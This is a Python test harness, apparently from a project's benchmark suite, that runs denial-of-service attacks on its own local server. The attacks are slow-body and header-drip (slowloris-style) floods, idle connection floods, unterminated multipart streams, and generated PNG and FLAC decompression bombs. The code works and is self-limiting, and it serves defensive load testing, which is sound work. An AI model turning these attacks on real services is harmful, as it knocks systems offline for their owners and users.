#!/usr/bin/env python3
"""Hostile clients for scripts/bench-attack.sh: one attack per process, from
one source address, for a bounded time, with a JSON summary on stdout of
what was sent and what the server answered.

Python 3.11, standard library only. Every attack is a pool of connections,
each bound to the source address given with --source (127.0.0.2 and up, so
that the honest clients on 127.0.0.1 are told apart from the attackers).
A connection that the server answers or closes is replaced by a new one
until the duration is over, so an attack keeps its pressure up for its whole
duration.

Attacks (the request is always `POST /v1/content/match`, which needs no
token, on the node given with --target):
  slow-body       a valid request head with a large Content-Length, then the
                  body at one byte per --interval seconds;
  idle            connections that send nothing at all;
  header-drip     a request head sent one byte per --interval seconds, with
                  a header line that never ends;
  multipart-open  multipart/form-data with boundary X and a body that never
                  holds it, streamed as fast as the server reads, up to
                  --bytes per connection;
  multipart-head  multipart/form-data whose first part header never ends
                  (no CRLF CRLF), streamed the same way;
  png-bomb        a 10000 x 10000 RGBA PNG of one colour (about 400 KB that
                  decodes to 400 MB) as the `file` part, over and over;
  flac-bomb       a FLAC of three hours of stereo silence (about 1.9 MB,
                  CONSTANT subframes) as the `file` part, over and over.

The attacker bounds itself: --connections caps its sockets, --duration its
run (and an alarm kills it 30 s after), RLIMIT_AS its memory (--max-memory-mb),
and streamed bodies reuse one 64 KiB block instead of being built whole. The
bomb files are generated once, streaming through zlib, into --cache-dir.

Usage:
  attack.py --target 127.0.0.1:8080 --source 127.0.0.2 --duration 30 \\
      slow-body --connections 300
  attack.py --make-files DIR   # writes bomb.png and bomb.flac, then exits

The summary counts connections opened, connect failures by kind, what ended
each connection (`status_NNN`, `closed` without an answer, `reset`, or
`open_at_end`), writes that failed (a server that stops reading resets the
connection), bytes sent, how long the answers took, and the attacker's own
peak RSS and CPU time.
"""

from __future__ import annotations

import argparse
import asyncio
import errno
import json
import os
import resource
import signal
import struct
import sys
import time
import zlib
from collections import Counter
from pathlib import Path

# --- bomb files ---------------------------------------------------------


def png_chunk(kind: bytes, data: bytes) -> bytes:
    """One PNG chunk: length, type, data, CRC-32 of type and data."""
    return (
        struct.pack(">I", len(data))
        + kind
        + data
        + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
    )


def write_png_bomb(path: Path, side: int = 10_000) -> None:
    """A side x side RGBA PNG of one colour, compressed row by row so that
    the 400 MB of raw pixels are never held at once."""
    row = b"\x00" + b"\x10\x80\xf0\xff" * side  # filter type None, one colour
    z = zlib.compressobj(9)
    idat = bytearray()
    for _ in range(side):
        idat += z.compress(row)
    idat += z.flush()
    header = struct.pack(">IIBBBBB", side, side, 8, 6, 0, 0, 0)  # 8-bit RGBA
    tmp = path.with_suffix(".tmp")
    with open(tmp, "wb") as f:
        f.write(b"\x89PNG\r\n\x1a\n")
        f.write(png_chunk(b"IHDR", header))
        f.write(png_chunk(b"IDAT", bytes(idat)))
        f.write(png_chunk(b"IEND", b""))
    tmp.replace(path)


def _crc8_table() -> list[int]:
    table = []
    for i in range(256):
        c = i
        for _ in range(8):
            c = ((c << 1) ^ 0x07) & 0xFF if c & 0x80 else (c << 1) & 0xFF
        table.append(c)
    return table


def _crc16_table() -> list[int]:
    table = []
    for i in range(256):
        c = i << 8
        for _ in range(8):
            c = ((c << 1) ^ 0x8005) & 0xFFFF if c & 0x8000 else (c << 1) & 0xFFFF
        table.append(c)
    return table


CRC8 = _crc8_table()
CRC16 = _crc16_table()


def crc8(data: bytes) -> int:
    """FLAC's frame header CRC-8 (polynomial 0x07, initial 0)."""
    c = 0
    for b in data:
        c = CRC8[c ^ b]
    return c


def crc16(data: bytes) -> int:
    """FLAC's frame CRC-16 (polynomial 0x8005, initial 0)."""
    c = 0
    for b in data:
        c = ((c << 8) & 0xFFFF) ^ CRC16[(c >> 8) ^ b]
    return c


def utf8_number(n: int) -> bytes:
    """FLAC's UTF-8-like coding of a frame number (up to 31 bits)."""
    if n < 0x80:
        return bytes([n])
    for length, first in ((2, 0xC0), (3, 0xE0), (4, 0xF0), (5, 0xF8), (6, 0xFC)):
        if n < 1 << (5 * length + 1):
            out = []
            for _ in range(length - 1):
                out.append(0x80 | (n & 0x3F))
                n >>= 6
            return bytes([first | n] + out[::-1])
    raise ValueError("frame number too large")


def write_flac_bomb(path: Path, seconds: int = 3 * 3600) -> None:
    """A 44.1 kHz, 16-bit stereo FLAC of `seconds` of silence: STREAMINFO,
    then fixed 4096-sample frames of two CONSTANT subframes each."""
    rate, block, channels, bps = 44_100, 4096, 2, 16
    frames = -(-seconds * rate // block)
    total = frames * block
    # STREAMINFO: min/max block size, min/max frame size (0 = unknown),
    # rate (20 bits), channels - 1 (3), bits - 1 (5), samples (36), MD5 (0).
    packed = (rate << 44) | ((channels - 1) << 41) | ((bps - 1) << 36) | total
    info = struct.pack(">HH", block, block) + b"\x00" * 6 + packed.to_bytes(8, "big") + b"\x00" * 16
    assert len(info) == 34
    tmp = path.with_suffix(".tmp")
    with open(tmp, "wb") as f:
        f.write(b"fLaC")
        f.write(bytes([0x80]) + len(info).to_bytes(3, "big") + info)  # last block, STREAMINFO
        # Block size code 12 (4096), rate code 9 (44.1 kHz), channels
        # code 1 (two independent), sample size code 4 (16 bits).
        fixed = bytes([0xFF, 0xF8, (12 << 4) | 9, (1 << 4) | (4 << 1)])
        # Per channel: subframe header 0 (CONSTANT, no wasted bits), then
        # the 16-bit value 0.
        subframes = b"\x00\x00\x00" * channels
        out = bytearray()
        for n in range(frames):
            header = fixed + utf8_number(n)
            header += bytes([crc8(header)])
            frame = header + subframes
            out += frame + crc16(frame).to_bytes(2, "big")
            if len(out) > 1 << 20:
                f.write(out)
                out.clear()
        f.write(out)
    tmp.replace(path)


def bomb_files(cache: Path) -> dict[str, Path]:
    """The bomb files in `cache`, generated when missing."""
    cache.mkdir(parents=True, exist_ok=True)
    files = {"png": cache / "bomb.png", "flac": cache / "bomb.flac"}
    if not files["png"].exists():
        write_png_bomb(files["png"])
    if not files["flac"].exists():
        write_flac_bomb(files["flac"])
    return files


# --- the attacks ----------------------------------------------------------

BLOCK = b"a" * 65536  # never holds "--X", CR or LF
PATH = "/v1/content/match"


class Attack:
    """What every attack shares: the target, the source address, the
    deadline and the counts that make up the summary."""

    def __init__(self, args: argparse.Namespace) -> None:
        host, _, port = args.target.rpartition(":")
        self.host, self.port = host, int(port)
        self.source = args.source
        self.args = args
        self.started = time.monotonic()
        self.deadline = self.started + args.duration
        self.counts: Counter[str] = Counter()  # what ended each connection
        self.connect_errors: Counter[str] = Counter()
        self.send_errors: Counter[str] = Counter()  # writes that failed
        self.opened = 0
        self.open_now = 0
        self.peak_open = 0
        self.bytes_sent = 0
        self.latencies: list[float] = []  # seconds, answered bomb requests
        self.first_connect_error: str | None = None

    def left(self) -> float:
        return self.deadline - time.monotonic()

    def head(self, extra: str) -> bytes:
        return (
            f"POST {PATH} HTTP/1.1\r\nHost: {self.host}:{self.port}\r\n"
            f"User-Agent: provreg-attack/{self.args.attack}\r\n{extra}\r\n"
        ).encode()

    async def connect(self):
        """A connection from the source address, or None (counted)."""
        try:
            r, w = await asyncio.wait_for(
                asyncio.open_connection(self.host, self.port, local_addr=(self.source, 0)),
                timeout=max(0.1, min(5.0, self.left())),
            )
        except asyncio.TimeoutError:
            self.connect_errors["timeout"] += 1
            return None
        except OSError as e:
            kind = errno.errorcode.get(e.errno or 0, type(e).__name__)
            self.connect_errors[kind] += 1
            self.first_connect_error = self.first_connect_error or str(e)
            # Give a refusing or saturated server a moment rather than spin.
            await asyncio.sleep(0.2)
            return None
        self.opened += 1
        self.open_now += 1
        self.peak_open = max(self.peak_open, self.open_now)
        return r, w

    async def write(self, w: asyncio.StreamWriter, data: bytes) -> None:
        w.write(data)
        await w.drain()
        self.bytes_sent += len(data)

    async def drip(self, w: asyncio.StreamWriter, data: bytes, filler: int) -> None:
        """Sends `data` and then `filler` bytes of `a`, one byte per
        --interval seconds (the filler is never built)."""
        for i in range(len(data) + filler):
            await self.write(w, data[i : i + 1] if i < len(data) else b"a")
            await asyncio.sleep(self.args.interval)

    async def stream(self, w: asyncio.StreamWriter, limit: int) -> None:
        """Sends up to `limit` bytes of BLOCK as fast as the server reads."""
        sent = 0
        while sent < limit:
            piece = BLOCK[: min(len(BLOCK), limit - sent)]
            await self.write(w, piece)
            sent += len(piece)

    async def session(self, send) -> None:
        """One connection: `send(writer)` runs beside a reader of the answer
        until the server answers or closes, or the time is up. What ended it
        is counted."""
        conn = await self.connect()
        if conn is None:
            return
        r, w = conn
        t0 = time.monotonic()
        reader = asyncio.create_task(read_status(r))
        sender = asyncio.create_task(send(w))
        outcome = None
        try:
            pending = {reader, sender}
            while reader in pending:
                done, pending = await asyncio.wait(
                    pending, timeout=max(0.0, self.left()), return_when=asyncio.FIRST_COMPLETED
                )
                if not done:
                    outcome = "open_at_end"
                    break
                if sender in done and sender.exception() is not None:
                    # Writing failed: the server reset or closed. Let the
                    # reader say whether an answer came first.
                    pending.discard(sender)
            if outcome is None:
                outcome = reader.result()
                if outcome.startswith("status_"):
                    self.latencies.append(time.monotonic() - t0)
        finally:
            # Also reached when the attack is stopped early (cancelled):
            # the connection was then still open.
            self.counts[outcome or "open_at_end"] += 1
            for task in (reader, sender):
                task.cancel()
            await asyncio.gather(reader, sender, return_exceptions=True)
            if sender.done() and not sender.cancelled() and sender.exception() is not None:
                self.send_errors[kind_of(sender.exception())] += 1
            w.close()
            self.open_now -= 1

    async def worker(self, send, delay: float = 0.0) -> None:
        """Opens connection after connection until the time is up."""
        await asyncio.sleep(delay)
        # A server that closes connections at once must not turn a slow
        # attack into a connect flood: each connection's turn lasts at
        # least this long.
        slow = self.args.attack in ("slow-body", "idle", "header-drip")
        cycle = 1.0 if slow else 0.1
        while self.left() > 0.05:
            t0 = time.monotonic()
            await self.session(send)
            await asyncio.sleep(max(0.0, min(cycle - (time.monotonic() - t0), self.left())))

    async def run(self) -> None:
        n = self.args.connections
        send = self.sender()
        # Spread the opening of many connections over the first second or
        # so, rather than a SYN storm that would only fill the backlog.
        ramp = min(2.0, n / 1000)
        workers = [self.worker(send, ramp * i / n) for i in range(n)]
        await asyncio.gather(*workers)

    def sender(self):
        a = self.args
        kind = a.attack
        if kind == "slow-body":
            head = self.head(f"Content-Type: application/octet-stream\r\nContent-Length: {a.bytes}\r\n")

            async def send(w):
                await self.write(w, head)
                await self.drip(w, b"", a.bytes)

        elif kind == "idle":

            async def send(w):
                await asyncio.sleep(self.left() + 1)

        elif kind == "header-drip":
            head = self.head("Content-Type: application/octet-stream\r\nX-Drip: ")[:-2]

            async def send(w):
                await self.drip(w, head, 1_000_000)

        elif kind == "multipart-open":
            head = self.head(
                f"Content-Type: multipart/form-data; boundary=X\r\nContent-Length: {a.bytes}\r\n"
            )

            async def send(w):
                await self.write(w, head)
                await self.stream(w, a.bytes)

        elif kind == "multipart-head":
            head = self.head(
                f"Content-Type: multipart/form-data; boundary=X\r\nContent-Length: {a.bytes}\r\n"
            )
            part = b'--X\r\nContent-Disposition: form-data; name="file"; filename="a.bin"\r\nX-Pad: '

            async def send(w):
                await self.write(w, head + part)
                await self.stream(w, a.bytes - len(part))

        elif kind in ("png-bomb", "flac-bomb"):
            which = "png" if kind == "png-bomb" else "flac"
            path = bomb_files(Path(a.cache_dir))[which]
            data = path.read_bytes()
            media = {"png": "image/png", "flac": "audio/flac"}[which]
            pre = (
                f'--X\r\nContent-Disposition: form-data; name="file"; filename="bomb.{which}"\r\n'
                f"Content-Type: {media}\r\n\r\n"
            ).encode()
            post = b"\r\n--X--\r\n"
            length = len(pre) + len(data) + len(post)
            head = self.head(
                "Content-Type: multipart/form-data; boundary=X\r\n"
                f"Content-Length: {length}\r\nConnection: close\r\n"
            )
            self.file_bytes = len(data)

            async def send(w):
                await self.write(w, head + pre)
                await self.write(w, data)
                await self.write(w, post)

        else:
            raise SystemExit(f"unknown attack {kind}")
        return send

    def summary(self) -> dict:
        lat = sorted(self.latencies)
        pick = lambda p: round(lat[min(len(lat) - 1, int(p * len(lat)))], 3) if lat else None  # noqa: E731
        usage = resource.getrusage(resource.RUSAGE_SELF)
        out = {
            "attack": self.args.attack,
            "source": self.source,
            "target": self.args.target,
            "duration_s": round(time.monotonic() - self.started, 2),
            "connections": self.args.connections,
            "opened": self.opened,
            "peak_open": self.peak_open,
            "connect_errors": dict(self.connect_errors),
            "ended_by": dict(self.counts),
            "send_errors": dict(self.send_errors),
            "bytes_sent": self.bytes_sent,
            "answered": sum(v for k, v in self.counts.items() if k.startswith("status_")),
            "answer_s": {"min": round(lat[0], 3) if lat else None, "p50": pick(0.5), "max": pick(1.0)},
            "attacker_max_rss_mb": round(usage.ru_maxrss / 1024, 1),
            # On a small machine the attacker's CPU is taken from the node.
            "attacker_cpu_s": round(usage.ru_utime + usage.ru_stime, 2),
        }
        if self.first_connect_error:
            out["first_connect_error"] = self.first_connect_error
        if hasattr(self, "file_bytes"):
            out["file_bytes"] = self.file_bytes
        return out


def kind_of(e: BaseException) -> str:
    if isinstance(e, ConnectionResetError):
        return "reset"
    if isinstance(e, BrokenPipeError):
        return "broken_pipe"
    if isinstance(e, OSError):
        return errno.errorcode.get(e.errno or 0, "oserror")
    return type(e).__name__


async def read_status(r: asyncio.StreamReader) -> str:
    """What the server said first: `status_NNN`, `closed` (EOF without an
    answer) or `reset`."""
    try:
        line = await r.readline()
    except (ConnectionResetError, BrokenPipeError):
        return "reset"
    except OSError as e:
        return "recv_" + kind_of(e)
    except ValueError:  # a line over the stream limit: not HTTP
        return "garbage"
    if not line:
        return "closed"
    parts = line.split()
    if len(parts) >= 2 and parts[0].startswith(b"HTTP/") and parts[1].isdigit():
        return "status_" + parts[1].decode()
    return "garbage"


DEFAULTS = {
    # attack: (connections, bytes)
    "slow-body": (300, 1_000_000),
    "idle": (2500, 0),
    "header-drip": (300, 0),
    "multipart-open": (16, 512 << 20),
    "multipart-head": (16, 512 << 20),
    "png-bomb": (4, 0),
    "flac-bomb": (4, 0),
}


def main() -> None:
    p = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    p.add_argument("--target", help="HOST:PORT of the node")
    p.add_argument("--source", default="127.0.0.2", help="source address to bind")
    p.add_argument("--duration", type=float, default=30.0, help="seconds to attack")
    p.add_argument("--cache-dir", default="/tmp/provreg-attack", help="where bomb files go")
    p.add_argument("--max-memory-mb", type=int, default=768, help="address space cap")
    p.add_argument("--make-files", metavar="DIR", help="write the bomb files to DIR and exit")
    p.add_argument("attack", nargs="?", choices=sorted(DEFAULTS))
    p.add_argument("--connections", type=int, help="concurrent connections (default per attack)")
    p.add_argument("--interval", type=float, default=1.0, help="seconds between dripped bytes")
    p.add_argument("--bytes", type=int, help="body length (slow-body, multipart-*)")
    args = p.parse_args()

    limit = args.max_memory_mb << 20
    resource.setrlimit(resource.RLIMIT_AS, (limit, limit))
    if args.make_files:
        files = bomb_files(Path(args.make_files))
        print(json.dumps({k: {"path": str(v), "bytes": v.stat().st_size} for k, v in files.items()}))
        return
    if not args.attack or not args.target:
        p.error("an attack and --target are needed")
    conns, size = DEFAULTS[args.attack]
    args.connections = min(args.connections or conns, 10_000)
    args.bytes = args.bytes or size
    # A last resort if the event loop ever wedges: never outlive the run by
    # more than half a minute.
    signal.signal(signal.SIGALRM, lambda *_: os._exit(3))
    signal.alarm(int(args.duration) + 30)

    attack = Attack(args)
    stopped = asyncio.Event()

    async def go():
        loop = asyncio.get_running_loop()
        loop.add_signal_handler(signal.SIGTERM, stopped.set)
        loop.add_signal_handler(signal.SIGINT, stopped.set)
        run = asyncio.create_task(attack.run())
        stop = asyncio.create_task(stopped.wait())
        await asyncio.wait({run, stop}, return_when=asyncio.FIRST_COMPLETED)
        if not run.done():
            # Stopped early: end every connection now.
            attack.deadline = time.monotonic()
            run.cancel()
            await asyncio.gather(run, return_exceptions=True)
        elif run.exception() is not None:
            raise run.exception()

    asyncio.run(go())
    print(json.dumps(attack.summary()), flush=True)


if __name__ == "__main__":
    main()
